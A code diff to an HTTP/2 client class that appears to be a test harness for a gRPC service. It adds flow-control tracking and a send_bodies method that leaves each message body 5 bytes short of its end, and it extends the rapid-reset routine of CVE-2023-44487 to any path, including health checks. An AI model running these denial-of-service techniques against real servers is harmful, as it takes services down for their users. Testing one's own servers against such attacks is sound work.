@@ -8,12 +8,14 @@ from types import TracebackType
 from typing import Final, Self
 
 import hpack
-from hyperframe.frame import DataFrame, Frame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame
+from hyperframe.frame import DataFrame, Frame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame
 
 GENERATE: Final = "/fantasia.v1.GenerationService/Generate"
+CHECK: Final = "/grpc.health.v1.Health/Check"
 WATCH: Final = "/grpc.health.v1.Health/Watch"
 _PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 _FRAME_HEADER_BYTES: Final = 9
+_FRAME_BYTES: Final = 16_384
 _CANCEL: Final = 8  # RFC 9113, section 7
 
 
@@ -34,6 +36,11 @@ class Http2Peer:
         """Set once the server has closed the connection."""
         self.concurrent_streams: int | None = None
         """Most streams at once, as the server's settings say."""
+        self.ended: set[int] = set()
+        """Streams that the server has ended."""
+        self._stream_window = 65_535  # RFC 9113, section 6.9.2
+        self._windows: Counter[int] = Counter({0: 65_535})  # bytes that may be sent: by stream; 0 is all of them
+        self._begun: Counter[int] = Counter()  # bytes of a body sent, by stream
         self._answers_pings = answers_pings
         self._silent = silent
         self._authority = address.encode()
@@ -87,9 +94,29 @@ class Http2Peer:
         self.send(opening + DataFrame(stream, body, flags=["END_STREAM"]).serialize())
         return stream
 
-    def open_and_reset(self, count: int) -> None:
+    def send_bodies(self, streams: list[int], length: int) -> int:
+        """Send as much of a message as the windows let, on each stream: `length` bytes in all, 5 short of its end.
+
+        Returns:
+            How many bytes were sent.
+        """
+        sent = 0
+        for stream in streams:
+            begun = self._begun[stream]
+            head = b"" if begun else b"\0" + length.to_bytes(4, "big")
+            window = min(self._stream_window + self._windows[stream], self._windows[0])
+            room = min(window, length - begun, _FRAME_BYTES)
+            if room > len(head) and stream not in self.ended:
+                self._begun[stream] += room
+                self._windows[stream] -= room
+                self._windows[0] -= room
+                self.send(DataFrame(stream, head.ljust(room, b"x")).serialize())
+                sent += room
+        return sent
+
+    def open_and_reset(self, count: int, path: str = GENERATE) -> None:
         """Open streams and give each up at once: the rapid reset of CVE-2023-44487."""
-        frames = (frame + RstStreamFrame(stream, _CANCEL).serialize() for stream, frame in self.headers(count))
+        frames = (frame + RstStreamFrame(stream, _CANCEL).serialize() for stream, frame in self.headers(count, path))
         self.send(b"".join(frames))
 
     def _read(self) -> None:
@@ -116,9 +143,14 @@ class Http2Peer:
 
     def _handle(self, frame: Frame) -> None:
         self.came[type(frame).__name__] += 1
+        if isinstance(frame, WindowUpdateFrame):
+            self._windows[frame.stream_id] += frame.window_increment
+        if "END_STREAM" in frame.flags or isinstance(frame, RstStreamFrame):
+            self.ended.add(frame.stream_id)
         if "ACK" in frame.flags or self._silent:
             return
         if isinstance(frame, SettingsFrame):
+            self._stream_window = frame.settings.get(SettingsFrame.INITIAL_WINDOW_SIZE, self._stream_window)
             self.concurrent_streams = frame.settings.get(SettingsFrame.MAX_CONCURRENT_STREAMS)
             self._answer(SettingsFrame(0, flags=["ACK"]))
         elif isinstance(frame, PingFrame) and self._answers_pings:
